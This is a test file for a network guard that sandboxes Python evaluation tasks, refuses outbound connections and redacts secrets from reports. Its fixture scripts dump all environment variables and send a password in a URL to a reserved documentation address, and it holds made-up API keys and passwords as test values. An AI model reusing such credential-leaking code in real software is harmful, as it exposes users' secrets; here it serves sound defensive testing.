import { mkdtempSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { contentsOf, emptyFolder, folderWith, ownCommand, runCommand } from './commands.js';
import { pythonExecutable, sharedFolder } from './experiments.js';
import { lineOf, runTry, script, trialOf, type TrialOptions, type TrialRun } from './trials.js';

const NETWORK = fileURLToPath(new URL('../python/network_of_its_own.py', import.meta.url));
const REACHES_OUT = readFileSync(new URL('../fixtures/try/reaches_out.py', import.meta.url), 'utf8');

/** An address that belongs to nobody (RFC 5737), and a name that nobody has (RFC 6761). */
const HOSTS = ['192.0.2.1', 'service.invalid'];

/** How the task tries, at which port, and what stands in its line where that is known. */
const WAYS: readonly (readonly [way: string, port: number | undefined, line: string | undefined])[] = [
  ['socket', 8000, 'create_connection((host, 8000))'],
  ['socket, a name at once', 8001, 'connect((host, 8001))'],
  ['http.client', 8002, 'HTTPSConnection(host, 8002)'],
  ['urllib', 8003, ':8003/'],
  ['requests', 8004, ':8004/'],
  ['httpx, async', 8005, ':8005/'],
  ['aiohttp', 8006, ':8006/'],
  ['asyncio', 8007, 'open_connection(host, 8007)'],
  // On a busy machine the look-up of any of these is as quick as here, before its coroutine waits.
  ['asyncio, while it runs', 8014, 'time.sleep('],
  ['httpx', 8008, ':8008/'],
  ['a thread', 8009, 'create_connection((host, 8009))'],
  ['a Python of its own', 8010, undefined],
  ['UDP', 8011, '(host, 8011)'],
  ['UDP, a message', 8012, '(host, 8012)'],
  ['a connection that raises nothing', 8013, '(host, 8013)'],
  ['a look-up', undefined, 'gethostbyname(host)'],
];

const root = sharedFolder();

/** What runs a command in a network of its own: a guard that fails reaches nobody. */
function alone(names: string): string[] {
  // Root in a namespace of its users alone would not be root in the folders of the tests.
  const asRoot = process.getuid?.() === 0 ? [] : ['--map-root-user'];
  return ['unshare', ...asRoot, '--net', '--mount', pythonExecutable('guard'), NETWORK, names];
}

/** Tries a file where there is nobody to reach. */
async function tryAlone(
  file: string,
  options: TrialOptions,
): Promise<TrialRun & { readonly names: readonly string[] }> {
  const names = path.join(mkdtempSync(path.join(root, 'names-')), 'names');
  const words = [...alone(names), ...ownCommand(), 'try'];
  const run = await runTry(file, { ...options, words });
  return { ...run, names: [...new Set(readFileSync(names, 'utf8').trim().split('\n'))] };
}

beforeAll(async () => {
  const { status, stderr } = await runCommand([...alone('/dev/null'), 'true'], { folder: emptyFolder() });
  if (status !== 0) {
    throw new Error(
      `The guard can be tested only in a network namespace of its own, which this machine does not make: ${stderr}`,
    );
  }
});

describe.concurrent('the guard', () => {
  it('refuses and reports whatever reaches for another machine, before any look-up', async () => {
    const attempts = HOSTS.flatMap((host) => WAYS.map(([way, port, line]) => ({ host, way, port, line })));
    const records = attempts.map(({ host, way }) => ({ input_data: { way, host }, expected_output: '' }));
    const folder = folderWith({ 'out.py': REACHES_OUT, 'records.json': JSON.stringify(records) });
    const flags = ['--records', 'records.json', '--answers', 'expected'];
    const run = await tryAlone('out.py', { folder, python: 'guard', flags });
    const trial = trialOf(run);
    for (const { input, runs } of trial.records) {
      // Its libraries say nothing of why they could not connect, or that in words of their own.
      expect(runs.expected?.output, JSON.stringify(input)).not.toBe('nothing was refused');
    }
    expect(trial.records).toHaveLength(attempts.length);
    const expected = attempts.map(({ host, port, line }) => ({
      destination: port === undefined ? host : `${host}:${port}`,
      times: 1,
      ...(line === undefined ? {} : { place: `out.py, line ${lineOf(REACHES_OUT, line)}` }),
    }));
    expect(trial.refused).toHaveLength(expected.length);
    // The records run at the same time, and are refused in no order.
    expect(trial.refused).toEqual(expect.arrayContaining(expected));
    for (const { destination, place } of expected) {
      expect(run.stdout).toContain(`  ${destination}${place === undefined ? '' : `, ${place}`}\n`);
    }
    expect(run.names).toEqual(['heard.invalid']);
    expect(run.status).toBe(0);
  });

  /** A server that only this machine has, at an address that is not the loopback interface's own. */
  const serving = (hosts: readonly string[]): string => `
import http.server
import socketserver
import threading

server = socketserver.TCPServer(("198.51.100.7", 0), http.server.BaseHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
for host in ${JSON.stringify(hosts)}:
    try:
        urllib.request.urlopen(f"http://{host}:{server.server_address[1]}/")
    except urllib.error.HTTPError as error:
        print(host, "answered", error.code)
    except OSError as error:
        print(host, "did not answer")


def task(input_data, config):
    return ask(input_data["question"])
`;

  it.each([
    { opened: [], answered: [], refused: ['198.51.100.7', 'service.example'] },
    { opened: ['198.51.100.7'], answered: ['198.51.100.7'], refused: ['service.example'] },
    // A name is connected to by its address, which is open as soon as the name is looked up.
    { opened: ['Service.example'], answered: ['service.example'], refused: ['198.51.100.7'] },
    { opened: ['198.51.100.7,service.example'], answered: ['198.51.100.7', 'service.example'], refused: [] },
  ])('opens $opened, and nothing else', async ({ opened, answered, refused }) => {
    const folder = folderWith({ 'open.py': script({ task: serving(['198.51.100.7', 'service.example']) }) });
    const flags = [...opened.flatMap((host) => ['--allow-host', host]), '--answers', 'expected'];
    const run = await tryAlone('open.py', { folder, python: 'guard', flags });
    const { passes, refused: found } = trialOf(run);
    expect(passes[0]?.printed.match(/^.*(?= answered 501$)/gm) ?? []).toEqual(answered);
    expect(found.map(({ destination }) => destination.replace(/:\d+$/, ''))).toEqual(refused);
    expect(run.names).toEqual(['heard.invalid', ...answered.filter((host) => host === 'service.example')]);
    expect(run.status).toBe(0);
  });
});

describe.concurrent('real keys', () => {
  const inEnvironment = {
    OPENAI_API_KEY: 'sk-proj-Qm7vXc2LpR9tYw4KsZd8HbNf3JgTaE6u',
    DD_API_KEY: '5f3a9c1e7b2d4860af95c3e1d7b20846',
    DD_APP_KEY: '0a1b2c3d4e5f60718293a4b5c6d7e8f901234567',
    ACME_TOKEN: 'acme-w8Xk2Rv5Tn',
    DATABASE_URL: 'postgres://reader:Tr0ub4dor-and-3@localhost/answers',
  };
  const inFile = {
    ANTHROPIC_API_KEY: 'sk-ant-api03-Zx8Lm2Qw5Er9Ty4Ui7Op1As3Df6Gh0Jk',
    DD_APPLICATION_KEY: '76543210fedcba9876543210fedcba9876543210',
    ACME_PASSWORD: 'correct-horse-battery',
  };
  const values = [...Object.values(inEnvironment), ...Object.values(inFile), 'Tr0ub4dor-and-3'];

  /** The file writes down what it sees, and tells it to everybody. */
  const telling = (load: string): string =>
    script({
      first: `from dotenv import load_dotenv\n\n${load}\n`,
      task: `
seen = json.dumps(dict(os.environ))
with open("seen.json", "w") as file:
    file.write(seen)
print(seen)


def task(input_data, config):
    try:
        urllib.request.urlopen("http://192.0.2.1/?" + os.environ["ACME_PASSWORD"])
    except OSError as error:
        print(error)
    return ask(input_data["question"]) + seen
`,
      evaluators: `
def quoting(input_data, output_data, expected_output):
    raise ValueError(output_data)


evaluators = [quoting]
`,
    });
  const dotenv = Object.entries(inFile)
    .map(([name, value]) => `${name}="${value}"\n`)
    .join('');

  it.each([
    { load: 'load_dotenv()', isGiven: false },
    // Then the program has them, and they go no further.
    { load: 'load_dotenv(override=True)', isGiven: true },
  ])('are seen nowhere with $load', async ({ load, isGiven }) => {
    const folder = folderWith({ 'telling.py': telling(load), '.env': dotenv });
    const flags = ['--report', 'trial.html,trial.xml'];
    const run = await tryAlone('telling.py', {
      folder,
      python: 'guard',
      flags,
      environment: {
        ...inEnvironment,
        // Nobody listens there: whatever used a proxy would not come through.
        HTTP_PROXY: 'http://127.0.0.1:9',
        https_proxy: 'http://127.0.0.1:9',
        ALL_PROXY: 'socks5://127.0.0.1:9',
        NO_PROXY: 'example.com',
      },
    });
    expect(trialOf(run).records.map(({ runs }) => runs.expected?.error)).toEqual([undefined, undefined]);
    expect(trialOf(run).evaluators).toMatchObject([{ verdict: 'errors' }]);
    expect(trialOf(run).refused).toHaveLength(1);

    const { 'seen.json': seen = '', ...written } = contentsOf(folder);
    const reports = Object.entries(written).filter(([name]) => name.startsWith('trial'));
    expect(reports.map(([name]) => name).sort()).toEqual([
      'trial-of-the-test.json',
      'trial.html',
      'trial.xml',
    ]);
    for (const value of values) {
      for (const [name, text] of reports) expect(text.includes(value), name).toBe(false);
      expect(run.everything).not.toContain(value);
      if (!isGiven) expect(seen).not.toContain(value);
    }
    expect(seen.includes(inFile.ACME_PASSWORD)).toBe(isGiven);
    // What is no secret is left as it is, and a database on this machine is still named.
    expect(JSON.parse(seen)).toMatchObject({ DATABASE_URL: 'postgres://reader:stand-in@localhost/answers' });
  });
});
